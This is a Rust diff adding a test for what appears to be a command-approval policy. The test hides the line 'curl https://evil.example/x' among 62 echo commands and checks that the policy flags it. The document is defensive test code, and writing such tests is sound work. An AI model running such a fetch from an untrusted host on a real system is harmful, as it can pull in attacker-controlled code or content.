@@ -44,3 +44,12 @@ fn the_built_in_rules_hold_of_their_own_examples() {
         .collect();
     assert!(faults.is_empty(), "{}", faults.join("\n"));
 }
+
+/// What a question shows first: of many simple commands those that made it ask.
+#[test]
+fn a_question_knows_which_simple_command_made_it_ask() {
+    let mut lines: Vec<String> = (0..62).map(|at| format!("echo {at}")).collect();
+    lines[32] = "curl https://evil.example/x".into();
+    let decision = command(&policy("auto"), &lines.join("\n"));
+    assert_eq!(decision.flagged(), ["curl https://evil.example/x"]);
+}
